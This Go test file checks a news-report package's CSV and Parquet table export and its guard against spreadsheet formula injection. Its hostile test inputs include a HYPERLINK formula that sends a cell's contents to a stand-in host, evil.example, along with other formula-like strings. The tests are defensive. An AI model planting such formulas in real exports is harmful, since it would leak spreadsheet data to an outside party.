package report

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/parquet-go/parquet-go"

	"github.com/wireprint/wireprint/pkg/news"
)

// A CSV table is read back by another reader as it was written, whatever is in it.
func TestCSV(t *testing.T) {
	for name, r := range tabled() {
		for _, table := range Tables(r) {
			var b bytes.Buffer
			if err := CSV(&b, table); err != nil {
				t.Fatal(err)
			}
			records, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, record := range records[1:] {
				for k := range record {
					record[k] = withoutApostrophe(record[k])
				}
			}
			if diff := cmp.Diff(fields(table, strings.ReplaceAll), records); diff != "" {
				t.Errorf("%s: %s (-table +read):\n%s", name, table.Name, diff)
			}
		}
	}
}

// tabled are reports with something in every table, with titles that no careless
// writer keeps, and with what carriage returns become in CSV.
func tabled() map[string]*news.Report {
	return map[string]*news.Report{"bridge": bridge(), "owned": withOwners(), "every field": oneOfEach(), "hostile": hostileFields(), "empty": {}}
}

func hostileFields() *news.Report {
	d := newDraft()
	for i, text := range []string{
		`"quoted", he said`, "two\nlines", "\n", `"`, `""`, ",", ";", "a\tb", " spaces ", `\N`, `\.`, "NULL", "=1+1", "'=1+1", "''-", "'", "'tis", "|", "a|b¦c",
		`=HYPERLINK("http://evil.example/?"&A1,"News")`, "+++ Eilmeldung +++", "-12 Grad", "@SUM(A1)", "\t=1", "صحيفة", "🗞️", "#id",
	} {
		id := fmt.Sprintf("%s-%d", text, i)
		d.article(id, text, "2031-03-03", text, text, text, "photo:"+text)
	}
	return &d.Report
}

// withoutApostrophe is how a program takes off what keeps a text from being a formula.
func withoutApostrophe(field string) string {
	if regexp.MustCompile(`^'+[=+\-@\t\r\n]`).MatchString(field) {
		return field[1:]
	}
	return field
}

// Parquet holds the same columns in the same order, and the same values, with null for
// what is unknown.
func TestParquet(t *testing.T) {
	keep := func(text, _, _ string) string { return text }
	for name, r := range tabled() {
		for _, table := range Tables(r) {
			var b bytes.Buffer
			if err := Parquet(&b, table); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(fields(table, keep), readParquet(t, table, b.Bytes())); diff != "" {
				t.Errorf("%s: %s (-table +read):\n%s", name, table.Name, diff)
			}
		}
	}
}

// readParquet reads a table by its own schema, as Go values.
func readParquet(t *testing.T, table Table, data []byte) [][]string {
	t.Helper()
	file, err := parquet.OpenFile(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, c := range file.Root().Columns() {
		names = append(names, c.Name())
	}
	all := [][]string{names}
	rows := parquet.NewGenericReader[map[string]any](file, file.Schema())
	defer rows.Close()
	for range rows.NumRows() {
		row := []map[string]any{{}}
		if n, err := rows.Read(row); n != 1 {
			t.Fatalf("%s: row %d: %v", table.Name, len(all), err)
		}
		var texts []string
		for _, c := range table.Columns {
			texts = append(texts, parquetField(c.Kind, row[0][c.Name]))
		}
		all = append(all, texts)
	}
	return all
}

func parquetField(kind Kind, value any) string {
	switch v := value.(type) {
	case nil:
		return ""
	case []any:
		var texts []string
		for _, e := range v {
			texts = append(texts, fmt.Sprint(e))
		}
		return strings.Join(texts, "|")
	case time.Time:
		return timeField(kind, v)
	case int32:
		if kind == Day {
			return time.Unix(int64(v)*24*60*60, 0).UTC().Format(time.DateOnly)
		}
	case int64:
		if kind == Instant {
			return timeField(kind, time.UnixMilli(v))
		}
	}
	return fmt.Sprint(value)
}

// fields are a table's names and values as text; bar is what becomes of a vertical bar
// in a text of a list.
func fields(t Table, bar func(text, old, new string) string) [][]string {
	names := make([]string, len(t.Columns))
	for i, c := range t.Columns {
		names[i] = c.Name
	}
	all := [][]string{names}
	for i := range t.Rows() {
		var row []string
		for k, value := range t.Row(i, nil) {
			switch v := value.(type) {
			case []string:
				var parts []string
				for _, text := range v {
					parts = append(parts, bar(text, "|", "¦"))
				}
				row = append(row, strings.Join(parts, "|"))
			case time.Time:
				row = append(row, timeField(t.Columns[k].Kind, v))
			default:
				row = append(row, fmt.Sprint(v))
			}
		}
		all = append(all, row)
	}
	return all
}

// Days and instants are told as far as the time of publication is known, and no further.
func TestTimesInTables(t *testing.T) {
	for published, want := range map[string]string{
		"2031-03-03T23:30-05:00": "2031-03-03 2031-03-04T04:30:00Z",
		"2031-03-03T06:12Z":      "2031-03-03 2031-03-03T06:12:00Z",
		"2031-03-03T06:12":       "2031-03-03 ",
		"2031-03-03":             "2031-03-03 ",
		"XXXX-03-03":             " ",
		"":                       " ",
	} {
		got := timeField(Day, calendarDay(published)) + " " + timeField(Instant, exactly(published))
		if got != want {
			t.Errorf("%s: %q, want %q", published, got, want)
		}
	}
}

// Every column of every table is told of, once, in a sentence; names and kinds are as
// a program takes them.
func TestTableColumns(t *testing.T) {
	tables := Tables(&news.Report{})
	dictionary := tables[len(tables)-1]
	told := map[string]bool{}
	for i := range dictionary.Rows() {
		row := dictionary.Row(i, nil)
		name := fmt.Sprintf("%s.%s", row[0], row[1])
		if told[name] {
			t.Errorf("%s is told of twice", name)
		}
		told[name] = true
		if about := row[3].(string); len(about) < 4 || !strings.HasSuffix(about, ".") {
			t.Errorf("%s: %q is no sentence", name, about)
		}
	}
	for _, table := range tables {
		for _, c := range table.Columns {
			if !told[table.Name+"."+c.Name] {
				t.Errorf("%s.%s is not told of", table.Name, c.Name)
			}
			if !regexp.MustCompile(`^[a-z]+(_[a-z]+)*$`).MatchString(c.Name) {
				t.Errorf("%s.%s is no plain name", table.Name, c.Name)
			}
		}
	}
}

// What the JSON form has of every record, tables have too: as a column of its list, as
// rows of another table, or as what they are counted for. A field that is added to a
// record belongs here, or into a table.
func TestTablesHaveEveryField(t *testing.T) {
	elsewhere := map[string]string{
		"articles.rank": "of --links", "articles.text": "a column of the length of a story; the JSON form has it",
		"events.articles": "counted", "families.articles": "counted", "families.speakers": "of --links", "families.follows": "of --links", "families.from": "of --links", "families.to": "of --links",
		"families.source": "source_article, source_outside", "families.copies": "table copies", "families.versions": "table versions",
		"paragraphs.source": "source_article, start, end", "quotes.source": "source_article", "quotes.speaker_evidence": "the JSON form has it",
		"drift.row": "paragraph", "drift.from": "from_article …", "drift.to": "to_article …",
	}
	tables := map[string]Table{}
	for _, table := range Tables(&news.Report{}) {
		tables[table.Name] = table
	}
	report := reflect.TypeFor[news.Report]()
	for i := range report.NumField() {
		list, _, _ := strings.Cut(report.Field(i).Tag.Get("json"), ",")
		if report.Field(i).Type.Kind() != reflect.Slice || strings.HasSuffix(list, "_links") {
			continue
		}
		table, ok := tables[list]
		if !ok {
			t.Errorf("%s has no table", list)
		}
		record := report.Field(i).Type.Elem()
		for k := range record.NumField() {
			name, _, _ := strings.Cut(record.Field(k).Tag.Get("json"), ",")
			has := slices.ContainsFunc(table.Columns, func(c Column) bool { return c.Name == name })
			if !has && elsewhere[list+"."+name] == "" {
				t.Errorf("%s.%s is in no table", list, name)
			}
		}
	}
}

// No text of a story becomes a formula in a spreadsheet.
func TestCSVHoldsNoFormula(t *testing.T) {
	r := bridge()
	for i, text := range []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"} {
		r.Articles[i%len(r.Articles)].Title = text
		var b strings.Builder
		if err := CSV(&b, articlesTable(r)); err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, record := range records[1:] {
			for k, field := range record {
				if field != "" && strings.ContainsRune("=+-@\t\r", rune(field[0])) {
					t.Errorf("%s: %q", records[0][k], field)
				}
			}
		}
	}
}
